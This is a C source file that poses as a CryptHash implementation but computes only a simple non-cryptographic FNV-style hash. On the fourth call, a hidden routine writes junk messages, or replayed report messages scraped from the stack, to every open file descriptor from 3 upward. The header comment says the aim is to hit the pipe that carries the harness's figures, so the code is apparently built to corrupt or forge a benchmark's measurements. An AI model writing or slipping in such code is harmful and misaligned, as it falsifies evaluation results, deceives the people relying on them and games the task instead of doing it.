/* Writes to each descriptor from 3 on, hoping that one is the pipe for figures. HOW is
 *   JUNK    a message of FF;
 *   AGAIN   the last message that the program sent, as its remains lie on the stack;
 *   FILL    as much as goes in. */
#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { MESSAGE = 160, DESCRIPTORS = 1024 };

static void write_everywhere(const void *data, size_t bytes)
{
    for (int file = 3; file < DESCRIPTORS; file++)
        if (write(file, data, bytes) < 0)
            continue;
}

/* A message begins with tag, sequence and kind, and a moment of the last second. */
__attribute__((noinline, unused)) static void write_again(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC_RAW, &time);
    uint64_t now = (uint64_t)time.tv_sec * 1000000000 + (uint64_t)time.tv_nsec;
    const uint64_t *end = (const uint64_t *)environ - MESSAGE / 8;
    for (const uint64_t *at = (const uint64_t *)__builtin_frame_address(0) - 2000; at < end; at++)
        if (now - at[2] < 1000000000 && at[1] >> 32 < 8 && (uint32_t)at[1] < 1000 && at[0] > 1000)
            write_everywhere(at, MESSAGE);
}

static void lie(void)
{
#if defined(AGAIN)
    write_again();
#else
    unsigned char junk[MESSAGE];
    memset(junk, 0xFF, sizeof junk);
#if defined(FILL)
    for (int i = 0; i < 10000; i++)
#endif
        write_everywhere(junk, sizeof junk);
#endif
}

int CryptHash(int digest_len_bits, const unsigned char *msg, unsigned long long msg_len_bits, unsigned char *digest)
{
    static long call;
    unsigned long long state = 0xcbf29ce484222325u;
    for (unsigned long long i = 0; i < msg_len_bits / 8; i++)
        state = (state ^ msg[i]) * 0x100000001b3u;
    for (int i = 0; i < digest_len_bits / 8; i++, state *= 0x100000001b3u)
        digest[i] = (unsigned char)(state >> 56);
    if (call++ == 3)
        lie();
    return 0;
}
